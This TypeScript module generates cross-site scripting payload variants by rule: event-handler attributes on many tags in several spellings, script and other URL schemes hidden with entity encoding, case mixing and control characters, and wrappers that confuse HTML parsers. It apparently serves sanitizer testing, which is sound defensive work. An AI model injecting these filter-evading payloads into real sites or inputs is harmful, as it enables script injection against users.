// Attacks made by rule, where a published list only has samples: every handler on every element in every way to
// write it, every way to hide a scheme.

const events =
  "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragover dragstart drop end ended error finish focus focusin focusout formdata fullscreenchange hashchange input invalid keydown keypress keyup load loadeddata loadend loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste play playing pointercancel pointerdown pointerenter pointermove pointerrawupdate popstate progress ratechange repeat reset resize scroll scrollend search securitypolicyviolation seeked select selectionchange show start storage submit timeupdate toggle touchend touchmove touchstart transitionend unhandledrejection unload volumechange waiting webkitanimationend wheel".split(
    " ",
  );

const tags = ["p", "a", "img", "h2", "td", "section", "svg", "math", "video", "body", "x-y", "details"];

const spellings: readonly ((event: string) => string)[] = [
  (event) => ` on${event}="alert(1)"`,
  (event) => ` on${event}='alert(1)'`,
  (event) => ` on${event}=alert(1)`,
  (event) => ` ON${event.toUpperCase()}=alert(1)`,
  (event) => `/on${event}=alert(1)//`,
  (event) => `\ton${event}\n=\n"alert(1)"`,
  (event) => ` x="y"on${event}="&#97;lert(1)"`,
  (event) => ` id="section-x" on${event}=alert\`1\``,
];

/** Handler × element, each in two of the spellings, by turns. */
export function eventHandlerVariants(): string[] {
  const turns = spellings.length / 2;
  return events.flatMap((event, row) =>
    tags.flatMap((tag, column) =>
      spellings
        .filter((_, spelling) => spelling % turns === (row + column) % turns)
        .map((spell) => `<${tag}${spell(event)}>x</${tag}>`),
    ),
  );
}

const schemes = [
  "javascript:",
  "vbscript:",
  "data:text/html,",
  "data:image/svg+xml,",
  "livescript:",
  "blob:",
  "file:",
  "filesystem:",
  "feed:javascript:",
  "view-source:",
  "//",
  "\\\\",
  "/\\",
];

const disguises: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => [...scheme].map((character, at) => (at % 2 ? character.toUpperCase() : character)).join(""),
  (scheme) => ` ${scheme}`,
  (scheme) => `\n\t${scheme}`,
  (scheme) => `\u0001${scheme}`,
  (scheme) => `&#14;${scheme}`,
  (scheme) => [...scheme].map((character) => `&#x${character.codePointAt(0)?.toString(16)};`).join(""),
  (scheme) => [...scheme].map((character) => `&#${String(character.codePointAt(0)).padStart(7, "0")}`).join(""),
  (scheme) => scheme.replace(":", "&colon;"),
  (scheme) => `${scheme.slice(0, 1)}&Tab;${scheme.slice(1)}`,
  (scheme) => `${scheme.slice(0, 1)}&NewLine;${scheme.slice(1)}`,
  (scheme) => `${scheme.slice(0, 1)}\n${scheme.slice(1)}`,
  (scheme) => `${scheme.slice(0, 1)}\r${scheme.slice(1)}`,
  (scheme) => `\u00a0${scheme}`,
  (scheme) => `\ufeff${scheme}`,
];

const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<a href=${address}>x</a>`,
  (address) => `<img src="${address}" alt="x">`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<table background="${address}"><tr><td background="${address}">x</td></tr></table>`,
  (address) => `<p style="background:url(${address})">x</p>`,
];

/** Scheme × disguise × the element that carries it. */
export function urlVariants(): string[] {
  return schemes.flatMap((scheme) =>
    disguises.flatMap((hide) => carriers.map((carry) => carry(`${hide(scheme)}alert(1)`))),
  );
}

const wrappers: readonly ((attack: string) => string)[] = [
  (attack) => `<table><tr><td>${attack}</td></tr></table>`,
  (attack) => `<math><mtext>${attack}</mtext></math>`,
  (attack) => `<svg><foreignObject>${attack}</foreignObject></svg>`,
  (attack) => `<noscript>${attack}</noscript>`,
  (attack) => `<template>${attack}</template>`,
  (attack) => `<select><option>${attack}</option></select>`,
  (attack) => `<blockquote><ul><li><a href="/x">${attack}`,
];

/** Each attack inside elements that change how a parser reads it. */
export function wrappedVariants(attacks: readonly string[]): string[] {
  return attacks.flatMap((attack) => wrappers.map((wrap) => wrap(attack)));
}
